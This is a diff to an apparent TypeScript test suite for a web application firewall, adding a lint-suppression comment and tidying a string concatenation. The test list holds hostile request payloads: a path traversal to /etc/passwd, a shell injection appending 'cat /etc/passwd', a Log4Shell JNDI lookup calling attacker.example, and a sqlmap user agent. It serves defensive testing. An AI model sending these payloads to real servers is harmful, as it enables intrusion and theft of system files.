@@ -38,6 +38,7 @@ const ATTACKS: [string, string, string, Record<string, string>, string | undefin
   ],
   ['path traversal', 'GET', '/download?file=../../../../etc/passwd', BROWSER, undefined],
   ['shell injection', 'GET', '/ping?host=127.0.0.1%3B%20cat%20/etc/passwd', BROWSER, undefined],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal text a Log4j lookup takes.
   ['Log4Shell JNDI lookup', 'GET', '/', { ...BROWSER, 'x-api-version': '${jndi:ldap://attacker.example/a}' }, undefined],
   ['a scanner user agent', 'GET', '/', { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)', accept: '*/*' }, undefined],
 ];
@@ -117,7 +118,7 @@ describe.skipIf(!native.waf.available)('the WAF', () => {
     const fits = await send(`${blocking.url}/upload`, {
       method: 'POST',
       headers: { ...BROWSER, 'content-type': 'application/json' },
-      body: big.slice(0, 10_000) + '"}',
+      body: `${big.slice(0, 10_000)}"}`,
     });
     expect(fits.status).toBe(200);
   });
